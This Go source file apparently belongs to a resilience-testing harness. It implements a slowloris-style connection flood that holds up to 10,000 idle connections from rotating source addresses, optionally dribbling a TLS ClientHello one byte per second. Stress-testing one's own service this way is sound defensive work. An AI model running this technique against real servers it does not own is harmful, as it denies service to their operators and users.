//go:build linux

package flood

import (
	"context"
	"net"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"
)

const (
	// manyConnections is how many half-open connections an attacker wants to hold.
	manyConnections = 10_000
	// again is how long after one was closed it connects anew: as if the rendezvous
	// had let it stay for the whole time that a login may take. Its share of all
	// spread the first connections.
	again = 5 * time.Second
)

// holdConnections returns a play that holds connections which say nothing, or
// dribble a ClientHello at a byte per second. Sources are drawn from the networks
// in turn.
func holdConnections(dribble bool, networks ...netip.Prefix) play {
	return func(ctx context.Context, at aim) (report, error) {
		h := &holder{at: at, dribble: dribble, hello: clientHello(at)}
		var all sync.WaitGroup
		for i := range manyConnections {
			network := networks[i%len(networks)]
			late := time.Duration(i) * again / manyConnections
			all.Go(func() {
				for pause := late; wait(ctx, pause); pause = again {
					h.hold(ctx, pick(network))
				}
			})
		}
		all.Wait()
		return report{Done: int(h.opened.Load()), What: "connections", Held: int(h.most.Load())}, nil
	}
}

type holder struct {
	at      aim
	dribble bool
	hello   []byte

	opened, held, most atomic.Int64
}

// hold connects from a source and stays until it is thrown out.
func (h *holder) hold(ctx context.Context, source netip.Addr) {
	conn, err := dialFrom(ctx, source, h.at.reachedFrom(source))
	if err != nil {
		return
	}
	h.opened.Add(1)
	for held := h.held.Add(1); ; {
		most := h.most.Load()
		if held <= most || h.most.CompareAndSwap(most, held) {
			break
		}
	}
	defer h.held.Add(-1)
	defer hangUp(conn)
	defer context.AfterFunc(ctx, func() { _ = conn.SetReadDeadline(time.Now()) })()
	if h.dribble {
		h.say(ctx, conn)
		return
	}
	_, _ = conn.Read(make([]byte, 1))
}

// say says a ClientHello, byte by byte.
func (h *holder) say(ctx context.Context, conn net.Conn) {
	for _, b := range h.hello {
		if _, err := conn.Write([]byte{b}); err != nil {
			return
		}
		_ = conn.SetReadDeadline(time.Now().Add(time.Second))
		if _, err := conn.Read(make([]byte, 1)); ctx.Err() != nil || !isTimeout(err) {
			return
		}
	}
}

// wait reports whether ctx outlived it.
func wait(ctx context.Context, d time.Duration) bool {
	select {
	case <-ctx.Done():
		return false
	case <-time.After(d):
		return true
	}
}
